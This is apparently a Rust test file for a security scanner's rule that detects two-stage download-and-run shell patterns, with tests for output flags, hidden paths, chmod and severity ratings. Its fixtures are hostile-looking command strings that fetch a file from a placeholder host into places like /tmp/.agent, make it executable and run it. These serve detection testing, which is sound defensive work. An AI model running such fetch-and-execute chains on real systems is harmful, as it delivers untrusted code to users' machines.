//! Edges of the two-stage download-and-run analyzer that a whole-file
//! mutation sweep found unpinned (#27, session 24): which lines may save
//! a file, which tokens of a fetch command name the file it writes and
//! where the command ends, what makes a file executable, what runs it, and
//! how hidden and verified downloads are rated.

use super::*;
use crate::scan::Severity::{Critical, High, Low, Medium};
use crate::scan::testutil::{assert_absent, assert_severity};

const EXEC: &str = "remote.download-exec";
const CHMOD_ID: &str = "remote.download-chmod";

fn paths(line: &str) -> Vec<String> {
    downloads(line).into_iter().map(|d| d.path).collect()
}

#[test]
fn a_short_output_flag_is_a_single_dash_word_with_an_o() {
    assert!(has_short_output_flag("curl -sLo x https://h.example/x"));
    assert!(has_short_output_flag("-O https://h.example/x"));
    assert!(has_short_output_flag("curl\t-o\tx"));
    // Not after another byte, not a long flag, not a lone dash, not a
    // single-dash word without an o.
    assert!(!has_short_output_flag("curl x-o y"));
    assert!(!has_short_output_flag("curl --location --silent https://h.example/x"));
    assert!(!has_short_output_flag("curl - o"));
    assert!(!has_short_output_flag("curl -sSL https://h.example/x"));
    // A non-ASCII line, word by word.
    assert!(has_short_output_flag("curl -o é"));
    assert!(!has_short_output_flag("curl é-o"));
}

#[test]
fn a_quoted_output_flag_is_an_output_flag() {
    // The shell drops the quotes: `"-o"` is `-o`, `'-s'o` is `-so`.
    let run = |fetch: &str| format!("{fetch} https://h.example/a\nchmod +x /tmp/.agent && /tmp/.agent\n");
    assert_severity(&run("curl \"-o\" /tmp/.agent"), EXEC, Critical);
    assert_severity(&run("curl '-s'o /tmp/.agent"), EXEC, Critical);
    // Quotes inside a word join it: `x"-o"` is the word `x-o`, no flag.
    assert!(!may_write_file("curl x\"-o\" https://h.example/a"));
}

#[test]
fn plain_wget_saves_a_file_without_any_flag() {
    // No output flag, no redirection: `wget` itself writes the file.
    let body = "wget https://h.example/tools/agent.sh\nsh agent.sh\n";
    assert_severity(body, EXEC, Critical);
}

#[test]
fn curl_remote_name_saves_the_urls_last_segment() {
    assert_eq!(paths("curl --remote-name https://h.example/v1/kubectl"), ["kubectl"]);
    assert_eq!(paths("curl --remote-name-all https://h.example/v1/kubectl"), ["kubectl"]);
    assert_severity("curl --remote-name https://h.example/i.sh\nsh i.sh\n", EXEC, Critical);
}

#[test]
fn an_output_flag_may_carry_its_value() {
    assert_eq!(paths("curl -so/tmp/.x https://h.example/x"), ["/tmp/.x"]);
    assert_eq!(paths("wget -qO/tmp/.x https://h.example/x"), ["/tmp/.x"]);
    // A flag's value is a file name, even when it looks like a flag.
    assert_eq!(paths("curl -o -oy.sh https://h.example/x"), ["-oy.sh"]);
    // Standard output and devices are no file.
    assert!(paths("curl -o /dev/null https://h.example/x").is_empty());
    assert!(paths("curl -o - https://h.example/x").is_empty());
}

#[test]
fn long_flags_and_plain_words_name_no_output() {
    // `--location` has an `o`, `DOWNLOADS` an `O`: neither is `-o`/`-O`.
    assert!(paths("curl --location https://h.example/api/v1").is_empty());
    assert_eq!(paths("wget -P DOWNLOADS https://h.example/x.sh"), ["x.sh"]);
}

#[test]
fn a_windows_downloader_saves_to_the_first_word_after_the_url() {
    // A redirection after the file names no second file.
    assert_eq!(paths("certutil -urlcache -split -f https://h.example/a.exe a.exe >nul"), ["a.exe"]);
    assert_eq!(
        paths("bitsadmin /transfer job /download /priority high https://h.example/p.exe C:\\p.exe"),
        ["C:\\p.exe"]
    );
}

#[test]
fn a_fetch_command_ends_after_its_semicolon() {
    // The file is the value of `-o`, ended by `;`.
    assert_eq!(
        downloads("curl https://h.example/i.sh -o i.sh; sh i.sh"),
        [Download { path: "i.sh".into(), end_token: 4 }]
    );
    // The URL ends the command.
    assert_eq!(
        downloads("curl -so x.sh https://h.example/x.sh; sh x.sh"),
        [Download { path: "x.sh".into(), end_token: 4 }]
    );
}

#[test]
fn a_file_written_by_redirection_to_a_path_ending_in_curl_is_no_download() {
    // `>/tmp/curl` ends in `curl` but fetches nothing: the word itself is
    // no output flag.
    assert!(paths("printf x >/tmp/curl").is_empty());
    assert_absent("printf x >/tmp/curl\n/tmp/curl --version\n", EXEC);
}

#[test]
fn a_download_only_made_executable_is_high_when_hidden_and_unverified() {
    let chmod = |path: &str, between: &str| {
        format!("curl -fsSL https://h.example/agent -o {path}\n{between}chmod +x {path}\n")
    };
    // Under /tmp or /dev/shm, or a dot-file: hidden.
    assert_severity(&chmod("/tmp/agent", ""), CHMOD_ID, High);
    assert_severity(&chmod("/dev/shm/agent", ""), CHMOD_ID, High);
    assert_severity(&chmod("~/.agent", ""), CHMOD_ID, High);
    // In plain sight, or verified first: Medium.
    assert_severity(&chmod("/opt/bin/agent", ""), CHMOD_ID, Medium);
    assert_severity(&chmod("/tmp/agent", "sha256sum -c /tmp/agent.sha256\n"), CHMOD_ID, Medium);
}

#[test]
fn only_an_execute_bit_on_the_file_itself_makes_it_executable() {
    let after = |line: &str| format!("curl -fsSL https://h.example/a -o /tmp/.agent\n{line}\n");
    assert_severity(&after("chmod 0755 /tmp/.agent"), CHMOD_ID, High);
    // No execute bit, in digits or in letters.
    assert_absent(&after("chmod 644 /tmp/.agent"), CHMOD_ID);
    assert_absent(&after("chmod u+rw /tmp/.agent"), CHMOD_ID);
    // The execute bit is given to another file.
    assert_absent(&after("cp /tmp/.agent /tmp/.tool && chmod +x /tmp/.tool"), CHMOD_ID);
    // The fetch command's own words are no chmod.
    assert_absent("curl -H \"X-Cmd: chmod 755 now\" -o /tmp/.agent https://h.example/a\n", CHMOD_ID);
}

#[test]
fn a_file_run_from_a_command_substitution_is_run() {
    let fetch = "curl -fsSL https://h.example/v -o /tmp/.ver.sh\n";
    assert_severity(&format!("{fetch}echo \"Version: `/tmp/.ver.sh --short`\"\n"), EXEC, Critical);
    assert_severity(&format!("{fetch}echo $(/tmp/.ver.sh)\n"), EXEC, Critical);
}

#[test]
fn a_file_printed_is_not_run_and_one_run_after_a_prefix_is() {
    let fetch = "curl -fsSL https://h.example/a -o /tmp/.agent\n";
    // Printing is not running; neither is an argument of another command.
    assert_absent(&format!("{fetch}cat /tmp/.agent\n"), EXEC);
    // A prefix, or an assignment, keeps the command position.
    assert_severity(&format!("{fetch}sudo /tmp/.agent\n"), EXEC, Critical);
    assert_severity(&format!("{fetch}MODE=1 /tmp/.agent\n"), EXEC, Critical);
    // A word ending in `;` ends its command, even a flag.
    let fetch = "curl -fsSL https://h.example/a -o agent\n";
    assert_severity(&format!("{fetch}set -e; ./agent\n"), EXEC, Critical);
}

#[test]
fn a_run_named_alone_in_inline_code_on_a_prose_line_is_explained() {
    // The finding's span is the file's name: alone in its inline code on
    // a prose line, it names the command rather than runs it.
    let body = "```sh\ncurl -fsSL https://h.example/a -o agent\n```\n`agent` starts the service in the background.\n";
    assert_severity(body, EXEC, Low);
}

proptest::proptest! {
    /// The byte-wise removal of quotes says what the `char`-wise one it
    /// replaced said, on any text (non-ASCII and the five quotes mixed in).
    #[test]
    fn quotes_are_removed_as_the_char_wise_replace_removed_them(
        pieces in proptest::collection::vec(
            proptest::sample::select(&["\"", "'", "`", "(", ")", "-o", " ", "é", "ｃ", "x", "\u{1F600}", "\t"][..]),
            0..30,
        )
    ) {
        let line = pieces.concat();
        const QUOTES: [char; 5] = ['"', '\'', '`', '(', ')'];
        let old: std::borrow::Cow<'_, str> =
            if line.contains(QUOTES) { line.replace(QUOTES, "").into() } else { line.as_str().into() };
        proptest::prop_assert_eq!(without_quotes(&line), old);
    }
}

proptest::proptest! {
    /// The ninth pass's walk of the line itself says what the search of a
    /// copy without its quotes said (#14's speed).
    #[test]
    fn output_flags_behind_quotes_are_found_as_in_the_copy(
        pieces in proptest::collection::vec(
            proptest::sample::select(&["\"", "'", "`", "(", ")", "-", "--", "o", "O", "s", " ", "\t", "é", "x"][..]),
            0..20,
        )
    ) {
        let line = pieces.concat();
        proptest::prop_assert_eq!(has_unquoted_output_flag(&line), has_short_output_flag(&without_quotes(&line)), "{:?}", line);
    }
}

/// A dash behind quotes alone opens its word; one behind a letter does
/// not; a quote between the dash and its letters is skipped; a dash alone
/// before a blank, or two dashes, is no short flag.
#[test]
fn output_flags_behind_quotes_at_their_edges() {
    for (line, want) in [
        ("curl \"-o\" x", true),
        ("curl '-s'o x", true),
        ("curl \"(-so)\"", true),
        ("curl x\"-o\"", false),
        ("curl -\" o", false),
        ("curl -\"-o", false),
        ("-o", true),
        ("-", false),
        ("curl \"-\"", false),
        ("curl -sL 'http://h/x'", false),
    ] {
        assert_eq!(has_unquoted_output_flag(line), want, "{line}");
        assert_eq!(has_short_output_flag(&without_quotes(line)), want, "{line}");
    }
}
